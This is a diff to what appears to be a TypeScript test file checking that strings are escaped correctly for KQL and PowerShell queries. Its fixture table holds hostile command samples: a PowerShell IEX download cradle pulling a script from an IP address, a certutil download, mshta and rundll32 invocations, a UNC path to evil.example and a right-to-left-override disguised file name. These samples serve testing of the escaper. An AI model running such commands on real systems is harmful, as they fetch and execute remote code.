@@ -151,8 +151,8 @@ const PAYLOADS: readonly (readonly [data: string, inKql: string, inPowerShell: s
   ['mshta javascript:a("b")', '"mshta javascript:a(\\"b\\")"', `'mshta javascript:a("b")'`],
   [
     "IEX (New-Object Net.WebClient).DownloadString('http://10.10.10.5/n.ps1')",
-    `"IEX (New-Object Net.WebClient).DownloadString('http\\u003a//10.10.10\\u002e5/n.ps1')"`,
-    "('IEX (New-Object Net.WebClient).DownloadString(''http' + [char]0x3a + '//10.10.10' + [char]0x2e + '5/n.ps1'')')",
+    `"IEX (New-Object Net.WebClient).DownloadString('http\\u003a\\u002f/10.10.10\\u002e5/n.ps1')"`,
+    "('IEX (New-Object Net.WebClient).DownloadString(''http' + [char]0x3a + [char]0x2f + '/10.10.10' + [char]0x2e + '5/n.ps1'')')",
   ],
   [
     'cmd.exe /c a.exe & b.exe > c.txt',
@@ -161,8 +161,8 @@ const PAYLOADS: readonly (readonly [data: string, inKql: string, inPowerShell: s
   ],
   [
     '\\\\evil.example\\s\\a.exe',
-    '"\\u005c\\\\evil\\u002eexample\\\\s\\\\a.exe"',
-    "('' + [char]0x5c + '\\evil' + [char]0x2e + 'example\\s\\a.exe')",
+    '"\\u005c\\u005cevil\\u002eexample\\\\s\\\\a.exe"',
+    "('' + [char]0x5c + [char]0x5c + 'evil' + [char]0x2e + 'example\\s\\a.exe')",
   ],
   ['rundll32.exe a.dll, DllMain', '"rundll32.exe a.dll, DllMain"', "'rundll32.exe a.dll, DllMain'"],
   [
@@ -174,8 +174,8 @@ const PAYLOADS: readonly (readonly [data: string, inKql: string, inPowerShell: s
   ['exe\u202egpj.scr', '"exe\\u202egpj.scr"', "('exe' + [char]0x202e + 'gpj.scr')"],
   [
     'certutil -urlcache -f https://a.b.example x',
-    '"certutil -urlcache -f https\\u003a//a\\u002eb\\u002eexample x"',
-    "('certutil -urlcache -f https' + [char]0x3a + '//a' + [char]0x2e + 'b' + [char]0x2e + 'example x')",
+    '"certutil -urlcache -f https\\u003a\\u002f/a\\u002eb\\u002eexample x"',
+    "('certutil -urlcache -f https' + [char]0x3a + [char]0x2f + '/a' + [char]0x2e + 'b' + [char]0x2e + 'example x')",
   ],
   [
     'C:\\Windows\\system32\\userinit.exe,C:\\x.exe',
